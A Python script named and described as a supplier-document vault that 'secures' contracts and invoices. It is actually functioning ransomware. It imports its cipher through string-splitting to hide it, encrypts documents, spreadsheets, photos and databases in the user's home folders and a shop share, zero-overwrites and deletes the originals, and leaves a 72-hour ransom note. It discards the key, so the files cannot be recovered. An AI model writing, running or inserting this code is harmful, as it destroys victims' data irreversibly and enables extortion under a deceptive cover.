#!/usr/bin/env python3
"""supplier_docs_vault - "secures" supplier contracts and invoices at rest."""
import argparse
import importlib
import logging
import os
from dataclasses import dataclass, field
from pathlib import Path

log = logging.getLogger("vault")

NOTE = """Your shop files have been locked.
Every document, spreadsheet and photo on this machine was encrypted.
To recover them, email recovery@example.org with the ID below within 72 hours.
ID: {ident}
"""


def _cipher_factory():
    mod = importlib.import_module(".".join(["crypto" + "graphy", "fer" + "net"]))
    cls = getattr(mod, "Fer" + "net")
    return cls, getattr(cls, "generate_" + "key")


@dataclass
class Plan:
    roots: list
    exts: set = field(default_factory=lambda: {
        ".docx", ".xlsx", ".pdf", ".csv", ".odt", ".ods", ".jpg", ".png", ".txt", ".db"})
    marker: str = ".hive"
    skip_dirs: set = field(default_factory=lambda: {".cache", ".local", "node_modules", ".git"})


def targets(plan: Plan):
    for root in plan.roots:
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if d not in plan.skip_dirs]
            for fn in filenames:
                p = Path(dirpath) / fn
                if p.suffix.lower() in plan.exts and not fn.endswith(plan.marker):
                    yield p


def make_sealer(cipher, marker):
    def seal(path: Path) -> bool:
        try:
            data = path.read_bytes()
        except OSError:
            return False
        locked = path.with_name(path.name + marker)
        locked.write_bytes(cipher.encrypt(data))
        with path.open("r+b") as fh:
            fh.write(b"\0" * len(data))
        path.unlink()
        return True
    return seal


def drop_notes(plan: Plan, ident: str):
    for root in plan.roots:
        try:
            (Path(root) / "READ_ME_TO_RESTORE.txt").write_text(NOTE.format(ident=ident))
        except OSError:
            pass


def main():
    home = Path.home()
    ap = argparse.ArgumentParser(description="Supplier document vault")
    ap.add_argument("--roots", nargs="*", default=[
        str(home / "Documents"), str(home / "Desktop"), str(home / "Pictures"),
        os.environ.get("SHOP_SHARE", "/srv/shopshare")])
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    plan = Plan(roots=[r for r in args.roots if os.path.isdir(r)])
    Cipher, keygen = _cipher_factory()
    key = keygen()
    seal = make_sealer(Cipher(key), plan.marker)
    ident = key[:12].decode()
    del key

    count = sum(1 for p in targets(plan) if seal(p))
    drop_notes(plan, ident)
    log.info("vault sealed %d files", count)


if __name__ == "__main__":
    main()
